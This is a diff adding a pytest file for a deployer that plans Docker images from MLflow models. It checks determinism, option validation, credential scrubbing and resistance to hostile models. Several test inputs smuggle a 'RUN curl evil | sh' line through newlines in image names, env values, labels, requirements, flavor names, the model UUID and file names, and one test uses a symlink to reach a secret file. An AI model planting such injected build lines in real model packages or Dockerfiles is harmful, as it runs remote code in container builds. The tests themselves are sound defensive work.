@@ -1,0 +1,206 @@
+"""plan_build: pure planning on real MLflow-saved models (no Docker, no network)."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+import yaml
+
+from deployer.building.plan import BuildOptions, iter_model_files, plan_build, strip_credentials
+from deployer.building.runtime import runtime_files
+from deployer.errors import (
+    DeployerError,
+    EnvironmentSpecError,
+    RenderError,
+    UnsafePathError,
+    UsageError,
+)
+from deployer.model import load_model
+
+BASE = "deployer-base/python:3.11-bookworm"
+
+
+def _copy(src: Path, dest: Path) -> Path:
+    shutil.copytree(src, dest)
+    return dest
+
+
+def test_plan_of_a_sklearn_model(sklearn_model: Path) -> None:
+    loaded = load_model(str(sklearn_model))
+    plan = plan_build(loaded, BuildOptions())
+    reqs = plan.requirements.requirements
+    assert any(r.startswith("mlflow-skinny==") for r in reqs) and not any(r.startswith("mlflow==") for r in reqs)
+    assert any(r.startswith("scikit-learn==") for r in reqs)
+    assert "dumb-init>=1.2" in reqs and any(r.startswith("uvicorn") for r in reqs)
+    assert not any(r.split("==")[0] in ("pip", "setuptools", "wheel") for r in reqs)
+    assert plan.base_image == f"python:{plan.platform.python}-slim"
+    assert [layer.name for layer in plan.layers] == ["base", "user", "environment", "runtime", "model"]
+    labels = dict(plan.labels)
+    assert labels["io.deployer.model.uuid"] == loaded.mlmodel.model_uuid
+    assert labels["io.deployer.mlflow.version"] == loaded.mlmodel.mlflow_version
+    assert labels["io.deployer.model.digest"] == plan.model_digest
+    assert labels["io.deployer.model.flavors"] == "python_function,sklearn"
+    assert plan.user == "1000:1000" and plan.cmd == ("serve",)
+    assert plan.entrypoint == ("/opt/venv/bin/dumb-init", "--")
+    name, tag = plan.tag.split(":")
+    assert name == "sklearn_skops" and tag == plan.fingerprint[7:19]
+
+
+def test_plan_is_deterministic_and_content_addressed(sklearn_model: Path, tmp_path: Path) -> None:
+    a = plan_build(load_model(str(sklearn_model)))
+    b = plan_build(load_model(str(sklearn_model)))
+    assert a == b
+    copy = _copy(sklearn_model, tmp_path / "sklearn_skops")
+    c = plan_build(load_model(str(copy)))
+    # same bytes elsewhere: same digest, same fingerprint, same tag (the image would be identical)
+    assert c.model_digest == a.model_digest and c.fingerprint == a.fingerprint and c.tag == a.tag
+    (copy / "extra.txt").write_text("retrained")
+    d = plan_build(load_model(str(copy)))
+    assert d.model_digest != a.model_digest and d.fingerprint != a.fingerprint
+    # the dependency layer's fingerprint does not move with the model
+    assert d.layers[2].fingerprint == a.layers[2].fingerprint
+
+
+def test_options_change_the_plan(sklearn_model: Path) -> None:
+    loaded = load_model(str(sklearn_model))
+    full = plan_build(loaded, BuildOptions(keep_full_mlflow=True))
+    assert any(r.startswith("mlflow==") for r in full.requirements.requirements)
+    root = plan_build(loaded, BuildOptions(run_as_root=True, target="sagemaker", tag="reg.io/x/iris:1"))
+    assert root.user == "root" and root.tag == "reg.io/x/iris:1" and root.target == "sagemaker"
+    azure = plan_build(loaded, BuildOptions(target="azureml"))
+    assert any(r.startswith("azureml-inference-server-http") for r in azure.requirements.requirements)
+    assert azure.healthcheck[-1].count("'/'") == 1
+    local = plan_build(loaded, BuildOptions(env_kind="local", base_image=BASE))
+    assert local.env_prefix == "" and local.python == "python3" and local.entrypoint == ("/usr/bin/env",)
+    env = plan_build(loaded, BuildOptions(env=(("GREETING", "hello $USER"),)))
+    assert ("GREETING", "hello $USER") in env.env
+
+
+@pytest.mark.parametrize("options, error", [
+    (BuildOptions(target="sagemker"), "did you mean 'sagemaker'"),
+    (BuildOptions(base_image="python:3.11\nRUN curl evil | sh"), "control character"),
+    (BuildOptions(base_image="Not A Ref"), "not a valid image reference"),
+    (BuildOptions(tag="bad tag"), "not a valid image reference"),
+    (BuildOptions(env=(("AWS_SECRET_ACCESS_KEY", "x"),)), "refusing to bake"),
+    (BuildOptions(env=(("X", "a\nRUN evil"),)), "control character"),
+    (BuildOptions(labels=(("io.deployer.version", "x"),)), "reserved"),
+    (BuildOptions(labels=(("ok.key", "v\nRUN evil"),)), "control character"),
+    (BuildOptions(platform="windows/amd64"), "unsupported platform"),
+    (BuildOptions(port=70000), "out of range"),
+])
+def test_bad_options_are_refused(sklearn_model: Path, options: BuildOptions, error: str) -> None:
+    with pytest.raises(DeployerError, match=error):
+        plan_build(load_model(str(sklearn_model)), options)
+
+
+def test_lock_for_another_python_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
+    from deployer.environment.lock import Lock, TargetPlatform, write_lock
+
+    write_lock(Lock(platform=TargetPlatform.parse("linux/amd64", "3.9"), packages=()), tmp_path / "l")
+    with pytest.raises(UsageError, match="Python 3.9"):
+        plan_build(load_model(str(sklearn_model)), BuildOptions(lock_file=tmp_path / "l", python_version="3.11"))
+
+
+# ---------------------------------------------------------------- hostile models
+def test_injected_requirement_line_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    with (model / "requirements.txt").open("a") as fh:
+        fh.write("\nnumpy\nRUN curl evil | sh\n")
+    with pytest.raises(EnvironmentSpecError, match="RUN curl evil"):
+        plan_build(load_model(str(model)))
+
+
+def test_injected_python_env_dependency_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    env = yaml.safe_load((model / "python_env.yaml").read_text())
+    env["dependencies"] = ["numpy\nRUN curl evil | sh"]
+    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
+    with pytest.raises(EnvironmentSpecError, match="newline"):
+        plan_build(load_model(str(model)))
+
+
+def test_injected_flavor_name_never_reaches_a_label(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    ml = yaml.safe_load((model / "MLmodel").read_text())
+    ml["flavors"]["evil\nRUN curl evil | sh"] = {"x": 1}
+    (model / "MLmodel").write_text(yaml.safe_dump(ml))
+    with pytest.raises(DeployerError):
+        plan_build(load_model(str(model)))
+
+
+def test_model_uuid_with_newline_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    ml = yaml.safe_load((model / "MLmodel").read_text())
+    ml["model_uuid"] = "abc\nRUN curl evil | sh"
+    (model / "MLmodel").write_text(yaml.safe_dump(ml))
+    with pytest.raises((RenderError, DeployerError)):
+        plan_build(load_model(str(model)))
+
+
+def test_file_names_with_newlines_and_escaping_symlinks_are_refused(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    (model / "bad\nRUN evil").write_text("x")
+    with pytest.raises(UnsafePathError, match="control character"):
+        plan_build(load_model(str(model)))
+    (model / "bad\nRUN evil").unlink()
+    secret = tmp_path / "secret.txt"
+    secret.write_text("do not ship")
+    os.symlink(secret, model / "innocent.txt")
+    with pytest.raises(UnsafePathError, match="outside the model directory"):
+        plan_build(load_model(str(model)))
+    (model / "innocent.txt").unlink()
+    os.symlink(model / "MLmodel", model / "alias")  # a link inside the model is fine
+    assert ("alias", model / "alias") in iter_model_files(model)
+
+
+def test_model_copy_skips_bytecode(sklearn_model: Path, tmp_path: Path) -> None:
+    model = _copy(sklearn_model, tmp_path / "m")
+    (model / "__pycache__").mkdir()
+    (model / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
+    (model / "y.pyc").write_bytes(b"\0")
+    rels = [rel for rel, _ in iter_model_files(model)]
+    assert not any("pyc" in r or "__pycache__" in r for r in rels)
+
+
+def test_strip_credentials() -> None:
+    assert strip_credentials("https://user:tok@host:8443/p/x?sig=abc#f") == "https://host:8443/p/x"
+    assert strip_credentials("s3://bucket/key") == "s3://bucket/key"
+    assert strip_credentials("models:/iris/1") == "models:/iris/1"
+    assert strip_credentials("/local/path") == "/local/path"
+
+
+def test_runtime_is_the_serving_import_closure() -> None:
+    rt = runtime_files()
+    assert "deployer/serving/__init__.py" in rt.files and "deployer/__init__.py" in rt.files
+    assert "deployer/errors.py" in rt.files
+    assert not any(f.startswith(("deployer/cli/", "deployer/building/", "deployer/targets/")) for f in rt.files)
+    assert rt == runtime_files()
+
+
+def test_credentials_in_model_env_files_are_scrubbed_from_the_image_copy(sklearn_model: Path, tmp_path: Path) -> None:
+    from deployer.building.plan import sanitized_content
+
+    model = _copy(sklearn_model, tmp_path / "m")
+    reqs = model / "requirements.txt"
+    reqs.write_text("--extra-index-url https://bot:s3cret@pkgs.example.org/simple\n" + reqs.read_text())
+    plan = plan_build(load_model(str(model)))
+    cleaned = sanitized_content("requirements.txt", reqs)
+    assert cleaned is not None and b"s3cret" not in cleaned and b"https://pkgs.example.org/simple" in cleaned
+    assert any("requirements.txt" in w and "removed" in w for w in plan.warnings)
+    assert sanitized_content("MLmodel", model / "MLmodel") is None
+    assert "s3cret" not in repr(plan.to_dict())
+
+
+def test_no_parquet_drops_pyarrow_unless_the_model_needs_it(sklearn_model: Path, tmp_path: Path) -> None:
+    loaded = load_model(str(sklearn_model))
+    assert any(r.startswith("pyarrow") for r in plan_build(loaded).requirements.requirements)
+    slim = plan_build(loaded, BuildOptions(parquet=False))
+    assert not any(r.startswith("pyarrow") for r in slim.requirements.requirements)
+    assert any("pyarrow" in n for n in slim.requirements.notes)
+    model = _copy(sklearn_model, tmp_path / "m")
+    (model / "requirements.txt").write_text((model / "requirements.txt").read_text() + "\npyarrow==21.0.0\n")
+    needs = plan_build(load_model(str(model)), BuildOptions(parquet=False))
+    assert "pyarrow==21.0.0" in needs.requirements.requirements
